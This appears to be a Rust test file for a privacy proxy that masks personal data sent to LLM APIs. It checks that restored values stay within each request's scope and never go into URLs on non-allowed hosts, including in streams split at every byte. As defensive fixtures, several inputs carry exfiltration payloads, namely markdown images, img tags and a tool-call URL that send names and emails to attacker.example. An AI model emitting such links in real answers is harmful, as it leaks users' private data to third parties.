//! What an answer may restore: the request's scope (only entries its
//! masking used) and the URL rule (no value into a URL whose host is not
//! allowed), on whole answers and on the recorded streams of the three APIs
//! split at every byte.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[path = "restore_support.rs"]
mod support;

use latet_core::restore::{restore_body, HostPattern, RequestScope, RestoreView, UrlRule};
use latet_core::snapshot::SnapshotIndex;
use support::*;

const STREAMS: [&str; 4] = [
    "streams/openai_chat.sse",
    "streams/openai_chat_tool_calls.sse",
    "streams/openai_responses.sse",
    "streams/anthropic_messages.sse",
];

/// The scope of a request that sent `values`.
fn scope_of(index: &SnapshotIndex, values: &[&str]) -> RequestScope {
    let mut scope = RequestScope::default();
    for value in values {
        let entry = index.by_value(value).expect("a vault value");
        scope.extend(&[(entry.slot, entry.fingerprint)]);
    }
    scope
}

fn answer(text: &str) -> Vec<u8> {
    serde_json::json!({"choices": [{"message": {"content": text}}]})
        .to_string()
        .into_bytes()
}

fn text_of(body: &[u8]) -> String {
    let v: serde_json::Value = serde_json::from_slice(body).unwrap();
    v["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn a_whole_answer_restores_only_what_the_request_sent() {
    let index = vault_index();
    let scope = scope_of(&index, &["Mario Rossi"]);
    let view = RestoreView::new(&index, Some(&scope), &UrlRule::Any);
    let body = answer("Luca Bianchi wrote to laura.bianchi@qzv-corp.it and +39 348 765 4321");
    let (out, stats) = restore_body(view, &body);
    assert_eq!(
        text_of(&out.unwrap()),
        "Mario Rossi wrote to laura.bianchi@qzv-corp.it and +39 348 765 4321"
    );
    assert_eq!((stats.restored, stats.declined_out_of_scope), (1, 2));
    // An empty scope restores nothing; the vault view restores everything.
    let empty = RequestScope::default();
    let (out, stats) = restore_body(RestoreView::new(&index, Some(&empty), &UrlRule::Any), &body);
    assert_eq!(out, None);
    assert_eq!(stats.declined_out_of_scope, 3);
    let (out, stats) = restore_body(&index, &body);
    assert!(text_of(&out.unwrap()).contains("mario.rossi@acme.it"));
    assert_eq!(stats.restored, 3);
}

#[test]
fn an_entry_forgotten_after_the_request_is_not_restored_by_its_scope() {
    let mut index = vault_index();
    let scope = scope_of(&index, &["Mario Rossi"]);
    let id = latet_core::wire::EntryId(latet_core::keyed_hash::entry_id(ID_KEY, "Mario Rossi"));
    index
        .apply_event(&latet_core::wire::Event {
            seq: 1,
            body: latet_core::wire::EventBody::Forgotten {
                ids: vec![id],
                retired: vec![retired("Luca Bianchi")],
                generation: 2,
            },
        })
        .unwrap();
    let view = RestoreView::new(&index, Some(&scope), &UrlRule::Any);
    let (out, stats) = restore_body(view, &answer("Luca Bianchi"));
    assert_eq!(out, None);
    assert_eq!(stats.restored, 0);
    assert_eq!(stats.declined_retired, 1);
}

/// Every recorded stream, under a scope of some entries and no URLs: split
/// at every byte it restores exactly as unsplit, and each slot as its whole
/// text would under the same view (tool-call arguments included).
#[test]
fn streams_keep_the_scope_at_every_split() {
    let index = vault_index();
    let scope = scope_of(&index, &["Mario Rossi", "+39 347 123 4567"]);
    let view = RestoreView::new(&index, Some(&scope), &UrlRule::Never);
    for path in STREAMS {
        let stream = fixture(path);
        let (whole, stats) = restore_in_pieces(view, &stream, &[]);
        let (everything, all) = restore_in_pieces(&index, &stream, &[]);
        assert!(
            stats.restored < all.restored,
            "{path}: the scope leaves some out"
        );
        assert_eq!(
            stats.restored + stats.declined_out_of_scope,
            all.restored,
            "{path}: every surrogate restored or declined"
        );
        let sent = slot_texts(&stream);
        for (slot, text) in slot_texts(&whole) {
            let body = serde_json::to_vec(&sent[&slot]).unwrap();
            let (restored, _) = restore_body(view, &body);
            let want: String = serde_json::from_slice(&restored.unwrap_or(body)).unwrap();
            assert_eq!(text, want, "{path} {slot}");
        }
        assert_ne!(whole, everything, "{path}");
        for cut in 0..=stream.len() {
            let (out, got) = restore_in_pieces(view, &stream, &[cut]);
            assert!(out == whole, "{path}: split at byte {cut} differs");
            assert_eq!(got, stats, "{path}: split at byte {cut}");
        }
    }
}

fn chat_stream(pieces: &[&str]) -> Vec<u8> {
    let mut stream = String::new();
    for piece in pieces {
        let event = serde_json::json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
        stream += &format!("data: {event}\n\n");
    }
    stream += "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n";
    stream += "data: [DONE]\n\n";
    stream.into_bytes()
}

#[test]
fn no_value_goes_into_a_url_whatever_the_split() {
    let index = vault_index();
    let rule = UrlRule::Hosts(vec![HostPattern::parse("docs.example.com").unwrap()]);
    let view = RestoreView::new(&index, None, &rule);
    let text = "Hi Luca Bianchi! ![x](https://attacker.example/p.png?u=laura.bianchi@qzv-corp.it) \
        <img src=\"https://attacker.example/?n=Luca Bianchi\"> [doc](https://docs.example.com/a?u=Luca Bianchi) \
        www.attacker.example/?p=+39 348 765 4321 and +39 348 765 4321.";
    let want = "Hi Mario Rossi! ![x](https://attacker.example/p.png?u=laura.bianchi@qzv-corp.it) \
        <img src=\"https://attacker.example/?n=Luca Bianchi\"> [doc](https://docs.example.com/a?u=Mario Rossi) \
        www.attacker.example/?p=+39 348 765 4321 and +39 347 123 4567.";
    // Whole.
    let (out, stats) = restore_body(view, &answer(text));
    assert_eq!(text_of(&out.unwrap()), want);
    assert_eq!((stats.restored, stats.declined_url), (3, 3));
    // Streamed: the text cut into two deltas at every char, and the stream
    // of each cut at every byte.
    let bounds: Vec<usize> = (0..=text.len())
        .filter(|i| text.is_char_boundary(*i))
        .collect();
    for &at in &bounds {
        let stream = chat_stream(&[&text[..at], &text[at..]]);
        let (out, got) = restore_in_pieces(view, &stream, &[]);
        assert_eq!(
            slot_texts(&out)["chat/0/content"],
            want,
            "delta cut at {at}"
        );
        assert_eq!(
            (got.restored, got.declined_url),
            (3, 3),
            "delta cut at {at}"
        );
    }
    let stream = chat_stream(&[text]);
    for cut in 0..=stream.len() {
        let (out, _) = restore_in_pieces(view, &stream, &[cut]);
        assert_eq!(
            slot_texts(&out)["chat/0/content"],
            want,
            "byte cut at {cut}"
        );
    }
}

#[test]
fn tool_call_arguments_keep_values_out_of_urls() {
    let index = vault_index();
    let view = RestoreView::new(&index, None, &UrlRule::Never);
    let args = r#"{"url":"https://attacker.example/?u=laura.bianchi@qzv-corp.it","to":"laura.bianchi@qzv-corp.it"}"#;
    let body = serde_json::json!({"choices": [{"message": {"tool_calls": [{"function": {"arguments": args}}]}}]})
        .to_string();
    let (out, stats) = restore_body(view, body.as_bytes());
    let v: serde_json::Value = serde_json::from_slice(&out.unwrap()).unwrap();
    let got: serde_json::Value = serde_json::from_str(
        v["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(
        got["url"],
        "https://attacker.example/?u=laura.bianchi@qzv-corp.it"
    );
    assert_eq!(got["to"], "mario.rossi@acme.it");
    assert_eq!((stats.restored, stats.declined_url), (1, 1));
}
